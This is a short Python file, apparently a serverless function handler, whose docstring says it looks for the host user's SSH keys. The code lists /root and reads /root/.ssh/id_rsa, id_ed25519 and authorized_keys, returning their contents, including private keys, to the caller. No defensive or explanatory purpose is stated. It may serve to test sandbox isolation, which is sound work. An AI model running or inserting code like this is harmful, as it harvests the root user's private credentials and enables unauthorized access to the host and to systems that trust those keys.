"""Look for the host user's ssh keys."""
import os


def handler(event, context):
    found = os.listdir("/root")
    for name in ("id_rsa", "id_ed25519", "authorized_keys"):
        with open(os.path.join("/root/.ssh", name)) as f:
            found.append(f.read())
    return found
